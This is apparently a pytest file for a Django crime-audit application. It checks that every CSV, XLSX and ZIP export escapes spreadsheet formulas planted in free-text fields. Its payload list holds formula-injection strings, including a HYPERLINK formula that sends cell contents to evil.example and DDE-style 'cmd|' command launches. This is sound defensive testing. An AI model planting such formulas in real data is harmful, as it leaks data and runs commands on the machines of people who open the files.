"""Every spreadsheet escaped: a formula planted in every free-text field a force, an inspector or an
administrator can set comes out of every CSV and XLSX export as text, never as a live formula; and only
core/downloads.py writes CSV or XLSX, so a new export cannot forget the escaping."""

import csv
import io
import re
import zipfile
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from audits.models import (
    AccessRecord,
    AuditedCase,
    AuditedCrime,
    CancellationReview,
    Challenge,
    CountingRule,
    FrameRecord,
    GradeRevision,
    Inspection,
    PublishedResult,
    SamplingFrame,
)
from core.spreadsheets import FORMULA_STARTS
from forces.models import Force, RecordedCrimeVolume
from reaudits import services as reaudits
from recommendations.models import Evidence, Finding, FollowUp, Verdict
from reports.models import (
    FrozenIncorrectCancellation,
    FrozenPublishedResult,
    FrozenScope,
    FrozenUnrecordedEstimate,
    ResultVersion,
)
from tests.factories import CaseFactory, CrimeFactory, PublishedResultFactory, make_self_audit, publish

ROOT = Path(__file__).resolve().parent.parent

# Every free-text field that reaches a page or an export and that someone other than a developer can set
# (force staff through challenges, follow-ups, evidence and sampling frames; inspectors through cases, reviews,
# findings and inspections; administrators through reference data), and the frozen copies publication makes.
PLANTED = {
    AuditedCase: ["reference", "notes", "query_reason", "stratum"],
    AuditedCrime: ["force_crime_reference"],
    CancellationReview: ["reference", "reason", "notes"],
    Inspection: ["report_reference", "notes", "reopen_reason"],
    PublishedResult: ["described_as"],
    GradeRevision: ["reason"],
    Challenge: ["reason", "resolution"],
    SamplingFrame: ["filename"],
    FrameRecord: ["reference", "stratum"],
    CountingRule: ["title", "source", "description"],
    Finding: ["reference", "text"],
    FollowUp: ["comment"],
    Evidence: ["original_name"],
    Verdict: ["comment"],
    RecordedCrimeVolume: ["source"],
    Force: ["region"],
    get_user_model(): ["first_name", "last_name"],
}
FROZEN = {
    ResultVersion: ["reason"],
    FrozenPublishedResult: ["described_as"],
    FrozenUnrecordedEstimate: ["volume_source"],
    FrozenScope: ["previous_title"],
    FrozenIncorrectCancellation: ["reference", "reason"],
}
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A2,"Open {n}")', "+cmd|' /C calc'!A{n}", "-2+3+cmd|{n}",
            "@SUM(1+1)*cmd|{n}", "\t=1+{n}", "\r=1+{n}"]


def plant(models):
    """Each field of each row gets a formula of its own (a different opening character in turn; unique, so that
    unique references stay unique), cut to the field's length."""
    n = 0
    for model, fields in models.items():
        for pk in model.objects.values_list("pk", flat=True):
            values = {}
            for name in fields:
                n += 1
                payload = PAYLOADS[n % len(PAYLOADS)].format(n=n)
                max_length = model._meta.get_field(name).max_length
                values[name] = payload[-max_length:] if max_length and len(payload) > max_length else payload
                values[name] = values[name] if values[name].startswith(FORMULA_STARTS) else "=" + values[name][1:]
            model.objects.filter(pk=pk).update(**values)
    return n


def export_urls(world):
    inspection, inspection_b = world.inspection, world.inspection_b
    urls = ["audits:inspection_cases_csv", "recommendations:list_csv"]
    resolved = [reverse("audits:inspection_cases_csv", args=[pk]) for pk in (inspection.pk, inspection_b.pk)]
    resolved.append(reverse("recommendations:list_csv"))
    for fmt in ("csv", "xlsx"):
        for pk in (inspection.pk, inspection_b.pk):
            resolved += [reverse("audits:case_export", args=[pk, fmt]),
                         reverse("audits:cancellation_review_export", args=[pk, fmt])]
        resolved += [reverse("audits:case_template", args=[fmt]),
                     reverse("audits:cancellation_review_template", args=[fmt]),
                     reverse("reports:overview_export", args=[fmt])]
    # Reports of several tables: XLSX, the ZIP of CSVs (a file a table), and single tables as CSV (their
    # report.csv without ?table= is only a redirect to the ZIP).
    for pk in (inspection.pk, inspection_b.pk):
        resolved.append(reverse("reports:inspection_export", args=[pk, "xlsx"]))
    resolved += [reverse("reports:force_export", args=[slug, fmt]) for slug in (world.forces.a.slug,
                                                                                 world.forces.b.slug)
                 for fmt in ("xlsx", "zip")]
    for pk in (inspection.pk, inspection_b.pk):
        resolved += [reverse("reports:inspection_export", args=[pk, "zip"]),
                     reverse("reports:inspection_export", args=[pk, "csv"]) + "?table=incorrect_cancellations",
                     reverse("reports:inspection_export", args=[pk, "csv"]) + "?table=categories"]
    resolved += [reverse("reports:overview_export", args=["zip"]),
                 reverse("reports:overview_export", args=["csv"]) + "?table=overview",
                 reverse("reports:force_export", args=[world.forces.b.slug, "zip"]),
                 reverse("reports:force_export", args=[world.forces.b.slug, "csv"]) + "?table=trend"]
    urls += ["audits:case_export", "audits:cancellation_review_export", "reports:inspection_export",
             "audits:case_template", "audits:cancellation_review_template", "reports:overview_export",
             "reports:force_export"]
    # The league table and the public page's downloads (tests/test_public.py, tests/test_league.py).
    for slug in (world.forces.a.slug, world.forces.b.slug):
        resolved += [reverse("reports:public_force_csv", args=[slug]), reverse("reports:public_findings_csv", args=[slug])]
    resolved += [reverse("reports:league_csv"), reverse("reports:public_csv")]
    urls += ["reports:league_csv", "reports:public_csv", "reports:public_force_csv", "reports:public_findings_csv"]
    # A submitted re-audit's two tables (the planted world has one: its disagreements carry case references).
    urls.append("reaudits:export")
    if hasattr(world, "reaudit"):
        resolved += [reverse("reaudits:export", args=[world.reaudit.pk, table])
                     for table in ("agreement", "disagreements")]
    # The access record (administrators only; every other user gets 403): its rows carry names and addresses.
    urls.append("admin:audits_accessrecord_export")
    resolved.append(reverse("admin:audits_accessrecord_export"))
    return set(urls), resolved


def spreadsheet_routes():
    """The names of every route that serves a file by extension: a CSV, an XLSX, or a format chosen in the
    URL."""
    found = set()

    def walk(patterns, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, pattern.namespace or namespace)
            elif isinstance(pattern, URLPattern) and re.search(r"\.(csv|xlsx|<str:fmt>)$", str(pattern.pattern)):
                found.add(f"{namespace}:{pattern.name}" if namespace else pattern.name)

    walk(get_resolver().url_patterns, None)
    return found


def is_number(text):
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def csv_formula_cells(content):
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not is_number(cell)], cells


def formula_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        return csv_formula_cells(content)
    if response["Content-Type"] == "application/zip":
        archive = zipfile.ZipFile(io.BytesIO(content))
        bad, cells = [], []
        for name in archive.namelist():
            if name.endswith(".csv"):
                more_bad, more_cells = csv_formula_cells(archive.read(name))
                bad += more_bad
                cells += more_cells
        return bad, cells
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    bad = [cell.value for cell in cells if cell.data_type == "f"
           or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS) and not is_number(cell.value))]
    return bad, [str(cell.value) for cell in cells]


@pytest.fixture
def planted(world):
    """The world with something in every planted field, force B's inspection published (so that its frozen
    record is read), and then formulas everywhere."""
    people = world.people
    CaseFactory(inspection=world.inspection_b, reference="GLO-B-0002", notes="n", query_reason="q", stratum="s")
    CrimeFactory(case__inspection=world.inspection_b, force_crime_reference="GLO-CR-1")
    CancellationReview.objects.create(inspection=world.inspection_b, reference="GLO-CX1", category="rape", ground="C2",
                                      avi_evidenced="no", ddm_authorised=True, victim_told=False, verdict="incorrect",
                                      reason="No AVI.")
    PublishedResultFactory(inspection=world.inspection_b)
    Inspection.objects.update(report_reference="ref", notes="notes")
    get_user_model().objects.update(first_name="First", last_name="Last")
    # Force A's own audit, re-audited: the inspector finds its recorded crime misclassified, so the re-audit's
    # disagreements list that case.
    self_audit = make_self_audit(world.forces.a, people.staff_a, n=2)
    world.reaudit = reaudits.reaudit_draw(self_audit=self_audit, size=2, seed=1, by=people.inspector)
    for row in world.reaudit.cases.select_related("case"):
        reaudits.reaudit_case_save(reaudit_case=row, by=people.inspector, verdicts={
            crime.pk: (["misclassified"] if crime.recorded_offence_id else ["not_recorded"], {})
            for crime in row.case.crimes.all()})
    reaudits.reaudit_submit(reaudit=world.reaudit, by=people.inspector)
    plant(PLANTED)
    publish(Inspection.objects.get(pk=world.inspection_b.pk))
    plant(FROZEN)
    # An access record whose user name and address read begin like formulas.
    AccessRecord.objects.create(username="-2+3+cmd|1", path='=HYPERLINK("http://evil.example/","Open")',
                                kind=AccessRecord.Kind.CASES, inspection=world.inspection)
    world.people = people
    return world


def test_every_route_serving_a_spreadsheet_is_walked_below(world):
    walked, _ = export_urls(world)
    assert spreadsheet_routes() == walked


def test_a_formula_planted_in_every_free_text_field_is_text_in_every_export(planted, client_for):
    assert FrozenIncorrectCancellation.objects.exists() and FrozenPublishedResult.objects.exists()
    _, urls = export_urls(planted)
    seen = set()
    for user in (planted.people.inspector, planted.people.manager, planted.people.staff_a, planted.people.staff_b,
                 planted.people.admin):
        client = client_for(user)
        for url in urls:
            response = client.get(url)
            if response.status_code == 404:  # another force's inspection
                continue
            if response.status_code == 403 and user != planted.people.admin and "/admin/" in url:
                continue  # the access record: administrators only
            assert response.status_code == 200, (user, url, response.status_code)
            bad, cells = formula_cells(response)
            assert not bad, (user.username, url, bad)
            if url.endswith("disagreements.csv"):  # the planted case reference reached it, escaped
                assert any(cell.startswith("'") for cell in cells), (user.username, url)
            seen.update(cell for cell in cells if cell.startswith("'"))
    # The planted text did reach the exports (escaped): case references and notes, crime references, reviews,
    # findings, the frozen record, volumes' sources.
    planted_texts = {value for model, fields in {**PLANTED, **FROZEN}.items()
                     for row in model.objects.values_list(*fields) for value in row}
    reached = {text for text in planted_texts if "'" + text in seen}
    assert len(reached) > 20, reached
    for model, field in [(AuditedCase, "reference"), (AuditedCase, "notes"), (AuditedCrime, "force_crime_reference"),
                         (CancellationReview, "reference"), (CancellationReview, "reason"), (Finding, "text"),
                         (FrozenIncorrectCancellation, "reason"), (FrozenIncorrectCancellation, "reference")]:
        assert set(model.objects.values_list(field, flat=True)) & reached, (model, field)


def test_only_the_one_writer_writes_csv_or_xlsx():
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter")
    offenders = [str(path.relative_to(ROOT)) for app in ("core", "forces", "audits", "recommendations", "reports",
                                                         "notifications", "search", "config")
                 for path in (ROOT / app).rglob("*.py")
                 if "migrations" not in path.parts and writers.search(path.read_text())]
    assert offenders == ["core/downloads.py"]
